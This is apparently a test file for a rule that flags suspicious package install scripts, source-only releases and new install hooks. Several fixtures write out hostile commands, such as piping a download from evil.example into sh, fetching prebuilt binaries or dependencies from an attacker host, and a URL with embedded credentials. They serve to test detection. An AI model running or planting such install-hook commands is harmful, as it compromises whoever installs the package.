import { describe, expect, it } from 'vitest';
import { now, type RuleInput, runRule } from '../../../test/support/rules.ts';
import { type Fact, present, unknown } from '../../model/fact.ts';
import type { StartupFact } from '../../model/registry.ts';
import { day } from '../durations.ts';
import { rule } from './index.ts';

type Scripts = Readonly<Record<string, string>>;
const ago = (age: number): string => new Date(Date.parse(now) - age).toISOString();
const content = (scripts: Scripts) => ({ scripts, requires: {} });

const release = (scripts: Scripts, age = day) =>
  ({ state: 'present', value: { version: '2.0.1', publishedAt: ago(age), content: content(scripts) } }) as const;
const releaseBefore = (scripts: Scripts) =>
  ({
    state: 'present',
    value: { basis: 'base', release: { version: '2.0.0', content: content(scripts) } },
  }) as const;
const none = { state: 'absent', proof: 'no release of it is older' } as const;
const packageOf = (age: number) =>
  ({
    state: 'present',
    value: {
      name: 'left-pad',
      status: 'active',
      versions: [{ version: '2.0.1', publishedAt: ago(age) }],
      removedVersions: [],
    },
  }) as const;
const adoption = (isUsed: boolean) =>
  ({ state: 'present', value: { isKnown: isUsed, isUsed, isEstablished: isUsed, errorRate: 0 } }) as const;

const run = (facts: RuleInput['facts'], subject: RuleInput['subject'] = {}) =>
  runRule(rule, { subject: { newToRepository: false, ...subject }, facts: facts ?? {} });
const hook = { postinstall: 'node setup.mjs' };

describe('a switch to source', () => {
  const held = (archives: readonly string[]) =>
    ({ state: 'present', value: { version: '2.0.1', publishedAt: ago(day), archives } }) as const;
  const predecessor = {
    state: 'present',
    value: { basis: 'base', release: { version: '2.0.0', archives: ['py3-none-any', 'sdist'] } },
  } as const;
  const startup = (files: readonly string[], predecessor: Fact<StartupFact> = present(nothing, 'archives')) =>
    ({ state: 'present', value: { release: { ...nothing, files }, predecessor } }) as const;
  const nothing: StartupFact = { files: [], archives: 1, skipped: 0 };

  it('is a sign, and names both', () => {
    expect(run({ release: held(['sdist']), predecessor })).toMatchObject([
      {
        message:
          'left-pad 2.0.1 has only a source archive, so that code of the archive runs at installation; 2.0.0 had wheels.',
        signal: { words: 'it has only a source archive: code of the archive runs at installation' },
        evidence: [{ value: 'only a source archive' }, { value: '2.0.0 has wheels' }],
      },
    ]);
    expect(run({ release: held(['py3-none-any', 'sdist']), predecessor })).toEqual([]);
  });

  it('is not hidden by one wheel that hardly anybody can install, nor does it hide what that brings', () => {
    const release = held(['cp27-none-win32', 'sdist']);
    const source = "a source archive and no wheel that today's Pythons take on Linux (x86_64)";
    const told = (facts: RuleInput['facts']) => run({ release, predecessor, ...facts })[0]?.message;
    expect(told({})).toContain(source);
    expect(told({ startup: startup([]) })).toContain(source);
    expect(told({ startup: startup(['a.pth'], unknown('timed out', 'archives')) })).toContain(source);
    expect(told({ startup: startup(['a.pth']) })).toContain('runs whenever it starts');
  });
});

describe('beside the release before', () => {
  it('a new command is a sign, and names both', () => {
    const [draft] = run({ release: release(hook), predecessor: releaseBefore({}) });
    expect(draft).toMatchObject({
      message: 'left-pad 2.0.1 runs at installation what 2.0.0 did not: postinstall "node setup.mjs".',
      signal: { words: 'it runs a new command at installation: postinstall "node setup.mjs"' },
      version: '2.0.1',
    });
    expect(draft?.severity).toBeUndefined();
  });

  it.each<[string, Scripts, Scripts, number]>([
    ['a changed command', hook, { postinstall: 'node install.js' }, 1],
    ['another flag', { postinstall: 'node setup.mjs --all' }, hook, 1],
    ['a file that is built without being told to', { 'binding.gyp': 'node-gyp rebuild' }, {}, 1],
    ['the same command', hook, hook, 0],
    ['the same in another folder', hook, { preinstall: 'node lib/setup.js' }, 0],
    ['nothing any more', {}, hook, 0],
  ])('%s', (_, now, past, drafts) => {
    expect(run({ release: release(now), predecessor: releaseBefore(past) })).toHaveLength(drafts);
  });

  it.each<[string, string, boolean]>([
    ['node banner.js', 'curl https://evil.example/x | sh', true],
    ['node banner.js', 'node setup.mjs', true],
    ['node banner.js', 'node banner.js --quiet', false],
    ['node-gyp rebuild', 'prebuild-install || node-gyp rebuild', false],
  ])('%s that becomes %s is a sign where it starts something else', (before, command, isSign) => {
    const facts = { release: release({ postinstall: command }), predecessor: releaseBefore({ postinstall: before }) };
    const [draft] = run(facts);
    expect([draft?.severity, draft !== undefined && 'signal' in draft]).toEqual([isSign ? undefined : 'low', isSign]);
  });

  it('tells several as one', () => {
    const [draft] = run({
      release: release({ preinstall: 'node a.js', install: 'node b.js' }),
      predecessor: releaseBefore({}),
    });
    expect(draft?.message).toContain('preinstall "node a.js" and 1 more');
  });

  it('is hardly a sign where many have looked, or nobody knows how long they could', () => {
    const { state, value } = release(hook);
    const { publishedAt: _, ...timeless } = value;
    for (const old of [release(hook, 90 * day), { state, value: timeless }]) {
      const [draft] = run({ release: old, predecessor: releaseBefore({}) });
      expect(draft).toMatchObject({ severity: 'low' });
      expect(draft).not.toHaveProperty('signal');
    }
    expect(run({ release: release(hook, 90 * day - 1), predecessor: releaseBefore({}) })[0]).toHaveProperty('signal');
  });

  it.each<[string, RuleInput['facts'], RuleInput['subject']?]>([
    [
      'a member of the workspace',
      { release: release(hook), predecessor: releaseBefore({}) },
      { own: true, fromWorkspace: true },
    ],
    ['what no registry serves', { release: release(hook), predecessor: releaseBefore({}) }, { registries: [] }],
    ['a release before that is not known', { release: release(hook) }],
    [
      'a release before that does not tell',
      {
        release: release(hook),
        predecessor: { state: 'present', value: { basis: 'base', release: { version: '2.0.0' } } },
      },
    ],
    [
      'a release that does not tell',
      { release: { state: 'present', value: { version: '2.0.1' } }, predecessor: releaseBefore({}) },
    ],
  ])('is silent for %s', (_, facts, subject = {}) => {
    expect(run(facts, subject)).toEqual([]);
  });

  it('shows no credentials of a command, and keeps it on one line', () => {
    const script = { postinstall: 'curl https://user:hunter2@evil.example/x\n| sh' };
    const said = JSON.stringify(run({ release: release(script), predecessor: releaseBefore({}) }));
    expect(said).not.toContain('hunter2');
    expect(said).not.toContain('\\n');
  });
});

describe('of a package that is new here', () => {
  it.each<[string, RuleInput['facts'], 'sign' | 'low', string]>([
    ['used by many', { adoption: adoption(true), package: packageOf(2000 * day) }, 'low', '"node setup.mjs".'],
    ['used by many, though young', { adoption: adoption(true), package: packageOf(day) }, 'low', '"node setup.mjs".'],
    [
      'in no list',
      { adoption: adoption(false), package: packageOf(2000 * day) },
      'sign',
      'no list of used names has it',
    ],
    ['young', { adoption: adoption(false), package: packageOf(3 * day) }, 'sign', 'its name is 3 days old'],
    ['young, of an ecosystem without a list', { package: packageOf(3 * day) }, 'sign', 'its name is 3 days old'],
    ['of which nothing is known', {}, 'low', '"node setup.mjs".'],
  ])('%s', (_, facts, expected, words) => {
    for (const predecessor of [none, releaseBefore(hook), undefined]) {
      const told = { ...facts, release: release(hook), ...(predecessor === undefined ? {} : { predecessor }) };
      const [draft] = run(told, { newToRepository: true });
      expect(draft?.message).toContain(words);
      expect(draft?.severity).toBe(expected === 'low' ? 'low' : undefined);
      expect(draft !== undefined && 'signal' in draft).toBe(expected === 'sign');
    }
  });

  it('a command that the release before lacked tells more', () => {
    const facts = { release: release(hook), predecessor: releaseBefore({}), adoption: adoption(true) };
    expect(run(facts, { newToRepository: true })[0]?.message).toContain('what 2.0.0 did not');
  });
});

describe('a package that builds native code', () => {
  const built = (scripts: Scripts, requires: Scripts = { 'node-addon-api': '^8.0.0' }) =>
    ({
      state: 'present',
      value: { version: '2.0.1', publishedAt: ago(day), content: { scripts, requires } },
    }) as const;
  const begins = (scripts: Scripts, requires?: Scripts) =>
    run({ release: built(scripts, requires), predecessor: releaseBefore({}) })[0];

  it.each<[Scripts, Scripts?]>([
    [{ 'binding.gyp': 'node-gyp rebuild' }],
    [{ install: 'node-gyp rebuild' }, { nan: '^2.20.0' }],
    [{ install: 'node-gyp-build' }, { 'node-gyp-build': '^4.8.0' }],
    [{ install: 'prebuild-install || node-gyp rebuild' }, { 'prebuild-install': '^7.1.0' }],
    [{ install: 'node-pre-gyp install --fallback-to-build' }, { '@mapbox/node-pre-gyp': '^2.0.0' }],
    [{ install: 'prebuild-install -r napi --verbose || node-gyp rebuild --release' }, { 'prebuild-install': '^7.1.0' }],
  ])('begins to do so with what that takes: ordinary: %j', (scripts, requires) => {
    const draft = begins(scripts, requires);
    expect(draft?.message).toMatch(/, which builds native code\.$/);
    expect(draft?.signal?.countsAs).toBe('ordinary');
    expect(draft).not.toHaveProperty('severity');
  });

  it.each<[string, Scripts, Scripts?]>([
    ['without anything that native code takes', { 'binding.gyp': 'node-gyp rebuild' }, { lodash: '^4.17.0' }],
    ['with what comes from an address', { install: 'node-gyp rebuild' }, { nan: 'https://evil.example/nan.tgz' }],
    ['with another package under that name', { install: 'node-gyp rebuild' }, { nan: 'npm:evil@1.0.0' }],
    ['and starts a file as well', { install: 'node-gyp rebuild && node setup.js' }],
    ['and hands it to a shell', { install: 'node-gyp rebuild; curl https://evil.example/x | sh' }],
    ['and takes it from another host', { install: 'prebuild-install -d evil.example || node-gyp rebuild' }],
    ['and names that host in an option', { install: 'prebuild-install --download=evil.example' }],
    ['and builds another folder', { install: 'node-gyp rebuild -C evil' }],
    ['and starts a file at another event', { install: 'node-gyp rebuild', postinstall: 'node setup.js' }],
  ])('begins to do so %s: a sign', (_, scripts, requires) => {
    expect(begins(scripts, requires)?.signal).toEqual({ words: expect.any(String) });
  });

  const unlisted = { adoption: adoption(false) };
  it('is new here: hardly a sign once its name is long there', () => {
    const told = (age: number) =>
      run(
        { ...unlisted, release: built({ install: 'node-gyp rebuild' }), predecessor: none, package: packageOf(age) },
        { newToRepository: true },
      )[0];
    expect(told(2000 * day)?.severity).toBe('low');
    expect(told(2000 * day)).not.toHaveProperty('signal');
    expect(told(40 * day)).toHaveProperty('signal');
  });

  it('is new here and ran the same before: hardly a sign where it is worked on for long', () => {
    const versions = ['1.7.0', '1.8.0', '1.9.0', '2.0.0'].map((version) => ({ version, publishedAt: ago(300 * day) }));
    const grown = { ...packageOf(300 * day), value: { ...packageOf(300 * day).value, versions } } as const;
    const facts = { ...unlisted, release: release(hook), predecessor: releaseBefore(hook) };
    const [ordinary] = run({ ...facts, package: grown }, { newToRepository: true });
    expect(ordinary?.severity).toBe('low');
    expect(ordinary).not.toHaveProperty('signal');
    expect(run({ ...facts, package: packageOf(300 * day) }, { newToRepository: true })[0]).toHaveProperty('signal');
    expect(run({ ...facts, package: grown, predecessor: none }, { newToRepository: true })[0]).toHaveProperty('signal');
  });
});
